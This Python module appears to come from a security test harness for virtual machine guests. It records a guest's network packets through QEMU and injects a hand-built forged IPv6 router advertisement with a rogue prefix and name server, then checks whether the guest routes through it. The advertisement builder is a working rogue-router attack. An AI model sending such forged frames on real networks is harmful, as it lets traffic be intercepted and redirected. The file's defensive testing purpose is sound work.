"""What a guest asks of its host's network, and what it believes unasked.

The host records every packet of the machine's network card, and sends forged ones. Sources: RFC 2131 (DHCP), RFC 4861
(router advertisements), RFC 8106 (name servers in them).
"""

import socket
from collections import Counter
from collections.abc import Sequence
from pathlib import Path
from typing import Final

from warily.adversary.attack import Attack, Seen, Together, refused, succeeded
from warily.adversary.control import SEARCHED
from warily.adversary.targets import ControlTarget, ImageTarget, Target, settle
from warily.formats import pcap

RECORDING: Final = "wire.pcap"
FORGED: Final = "wire.sock"
CARD: Final = bytes.fromhex("525400123456")  # QEMU's address for a first card
HEARD_WITHIN: Final = 12
IPV4, IPV6, ARP = 0x0800, 0x86DD, 0x0806
UDP, TCP, ICMP6 = 17, 6, 58
ASKED: Final = {67: "DHCP", 53: "DNS", 123: "NTP", 5353: "mDNS", 5355: "LLMNR", 547: "DHCPv6"}
ROUTER: Final = "fe80::bad"
PREFIX: Final = "2001:db8:bad::"
EVERYBODY: Final = "ff02::1"
LIFETIME: Final = 1800


def recording(folder: Path) -> Sequence[str]:
    """Every packet of the first network card goes into a file as well."""
    return ("-object", f"filter-dump,id=recording,netdev=net0,file={folder / RECORDING}")


def door(folder: Path) -> Sequence[str]:
    """A socket: a packet that is written there reaches the guest as if it came from its network."""
    path = folder / FORGED
    return (
        *("-chardev", f"socket,id=forged,path={path},server=on,wait=off"),
        *("-object", "filter-redirector,id=forger,netdev=net0,queue=tx,indev=forged"),
    )


def kinds(target: Target) -> Counter[str]:
    """What the guest itself sent so far, by kind."""
    data = (target.folder / RECORDING).read_bytes()
    return Counter(kind_of(frame) for frame in pcap.frames(data) if frame[6:12] == CARD)


def kind_of(frame: bytes) -> str:
    """A word for a frame: the question it asks, or its protocol."""
    kind, packet = int.from_bytes(frame[12:14], "big"), frame[14:]
    if kind == ARP:
        return "ARP"
    if kind == IPV6:
        protocol, rest = packet[6:7], packet[40:]
    elif kind == IPV4:
        protocol, rest = packet[9:10], packet[(packet[:1] or b"\0")[0] % 16 * 4 :]
    else:
        return f"type {kind:#06x}"
    family = "IPv6" if kind == IPV6 else "IPv4"
    number = protocol[0] if protocol else 0
    if number == UDP:
        return ASKED.get(int.from_bytes(rest[2:4], "big"), f"UDP over {family}")
    return f"TCP over {family}" if number == TCP else f"{family} protocol {number}"


def told(found: Counter[str]) -> str:
    """The kinds and how many of each."""
    return ", ".join(f"{count} {kind}" for kind, count in sorted(found.items())) or "none"


def dhcp_on_control(target: ControlTarget) -> Seen:
    """Whether Debian configured itself from what the network said."""
    said = target.run("grep ^search /run/systemd/resolve/resolv.conf; ip -4 -o address show scope global dynamic")
    if SEARCHED not in said:
        return refused(f"it looks for names in no domain of the host's: {said}")
    return succeeded(f"it says `{said}`; packets it sent: {told(kinds(target))}")


def dhcp_on_image(target: ImageTarget) -> Seen:
    """Whether the image asked for anything: an address, a name, the time."""
    found = kinds(target)
    asked = sorted(set(found) & {*ASKED.values()})
    if asked:
        return succeeded(f"it asked the host's network by {', '.join(asked)}; packets it sent: {told(found)}")
    return target.nothing_happened(f"it asked nothing of the host's network; packets it sent: {told(found)}")


def advertisement() -> bytes:
    """An Ethernet frame: a router that offers itself, a prefix for addresses, and a name server."""
    router, everybody = (socket.inet_pton(socket.AF_INET6, name) for name in (ROUTER, EVERYBODY))
    prefix = socket.inet_pton(socket.AF_INET6, PREFIX)
    lifetime = LIFETIME.to_bytes(4, "big")
    message = b"".join(
        (
            bytes([134, 0, 0, 0, 64, 0]) + LIFETIME.to_bytes(2, "big") + bytes(8),
            bytes([3, 4, 64, 0xC0]) + lifetime + lifetime + bytes(4) + prefix,
            bytes([25, 3, 0, 0]) + lifetime + router,
        )
    )
    pseudo = router + everybody + len(message).to_bytes(4, "big") + bytes([0, 0, 0, ICMP6])
    message = message[:2] + checksum(pseudo + message).to_bytes(2, "big") + message[4:]
    packet = bytes([0x60, 0, 0, 0]) + len(message).to_bytes(2, "big") + bytes([ICMP6, 255]) + router + everybody
    ethernet = bytes.fromhex("333300000001") + bytes.fromhex("0200000000ad") + IPV6.to_bytes(2, "big")
    return ethernet + packet + message


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of an even number of bytes."""
    total = sum(int.from_bytes(data[at : at + 2], "big") for at in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def send(target: Target, frame: bytes) -> None:
    """The guest's card received the frame. Source: QEMU net/filter-mirror.c: a length of 32 bits before each."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(str(target.folder / FORGED))
        connection.sendall(len(frame).to_bytes(4, "big") + frame)
        settle(0.5)


def router_on_control(target: ControlTarget) -> Seen:
    """Whether Debian routes over the newcomer."""
    said = ""
    for _ in range(HEARD_WITHIN // 2):
        send(target, advertisement())
        settle(1.0)
        said = target.run(f"ip -6 route show default | grep {ROUTER}")
        if said:
            return succeeded(f"after one forged packet it routes everything over the host: {said.splitlines()[0]}")
    return refused("no route over the forged router")


def router_on_image(target: ImageTarget) -> Seen:
    """Whether the image made itself an address of the router's prefix: it would ask whether somebody has it."""
    if not target.machine.running:
        return target.nothing_happened("the machine is gone")
    for _ in range(3):
        send(target, advertisement())
        settle(1.0)
    found = kinds(target)
    spoken = sorted(kind for kind in found if "IPv6" in kind)
    if spoken:
        return succeeded(f"it answers: {', '.join(spoken)}")
    return target.nothing_happened(f"after three forged packets it sent nothing by IPv6; in all it sent {told(found)}")


ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        id="network.dhcp",
        title="The host's network tells the machine its address and where to look for names",
        component="network",
        catalogue=("G04",),
        how=Together(arguments=recording, control=dhcp_on_control, image=dhcp_on_image),
    ),
    Attack(
        id="network.router",
        title="A forged packet offers an IPv6 router, addresses and a name server",
        component="network",
        catalogue=("G04",),
        how=Together(arguments=door, control=router_on_control, image=router_on_image),
    ),
)
